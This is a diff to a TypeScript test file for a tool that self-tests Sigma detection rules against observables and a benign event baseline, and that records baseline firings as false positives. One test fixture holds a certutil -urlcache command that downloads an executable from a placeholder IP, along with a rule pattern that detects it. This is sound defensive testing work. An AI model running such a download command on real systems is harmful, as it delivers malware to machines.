@@ -1,6 +1,8 @@
 import { generateBuiltinRules } from '../templates/builtin-sigma-agent';
 import { observableEvents, type ObservableLike } from './observable-events';
-import { selfTestRule } from './self-test';
+import { load } from 'js-yaml';
+import { benignBaseline } from './benign-baseline';
+import { noteBaselineFirings, selfTestRule } from './self-test';
 
 const rule = (selection: string, category = 'process_creation'): string =>
   `title: T\nlogsource: {category: ${category}, product: windows}\ndetection:\n  sel:\n${selection}\n  condition: sel\n`;
@@ -12,7 +14,7 @@ describe('selfTestRule', () => {
       { type: 'domain', value: 'update-check.example' },
     ];
     const result = selfTestRule(rule("    Image|endswith: '\\certutil.exe'\n    CommandLine|contains: '-urlcache'"), observables);
-    expect(result).toEqual({ fires: true, events: 4, fired_on: ['cmdline: certutil.exe -urlcache -split -f http://203.0.113.9/a.exe C:\\Users\\Public\\a.exe'] });
+    expect(result).toMatchObject({ fires: true, events: 4, fired_on: ['cmdline: certutil.exe -urlcache -split -f http://203.0.113.9/a.exe C:\\Users\\Public\\a.exe'] });
   });
 
   it('does not fire when the rule asks for something no observable shows, or cannot run', () => {
@@ -78,4 +80,26 @@ describe('selfTestRule', () => {
     expect(selfTestRule(linuxRule, observables).fires).toBe(true);
     expect(observableEvents(observables).map(({ event }) => event['Image'])).toEqual(['/usr/bin/nltest']);
   });
+
+  it('runs the rule over a benign baseline of at least 3,000 ordinary Windows, Linux and macOS events', () => {
+    const baseline = benignBaseline();
+    expect(baseline.length).toBeGreaterThanOrEqual(3000);
+    expect(baseline.some((event) => String(event['Image']).startsWith('C:\\'))).toBe(true);
+    expect(baseline.some((event) => String(event['Image']).startsWith('/usr/bin/apt'))).toBe(true);
+    expect(baseline.some((event) => String(event['CommandLine']).includes('launchctl'))).toBe(true);
+    const noisy = selfTestRule(rule("    Image|endswith: '\\svchost.exe'"), []);
+    expect(noisy.baseline?.fires).toBeGreaterThan(0);
+    expect(noisy.baseline?.examples[0]).toMatch(/^CommandLine: .*svchost\.exe/i);
+    const specific = selfTestRule(rule("    Image|endswith: '\\certutil.exe'\n    CommandLine|contains: '-urlcache'"), []);
+    expect(specific.baseline).toEqual({ events: baseline.length, fires: 0, examples: [] });
+  });
+
+  it('writes baseline firings into the rule as a false positive and lowers its level one step', () => {
+    const yaml = `${rule("    Image|endswith: '\\svchost.exe'")}falsepositives:\n  - Unknown\nlevel: high\n`;
+    const noted = load(noteBaselineFirings(yaml, { events: 3286, fires: 40, examples: ['CommandLine: svchost.exe -k netsvcs'] })) as { level: string; falsepositives: string[] };
+    expect(noted.level).toBe('medium');
+    expect(noted.falsepositives).toEqual(['Unknown', 'Fires on 40 of 3286 ordinary events in the benign baseline, e.g. CommandLine: svchost.exe -k netsvcs']);
+    expect(noteBaselineFirings(yaml, { events: 3286, fires: 0, examples: [] })).toBe(yaml);
+  });
 });
+
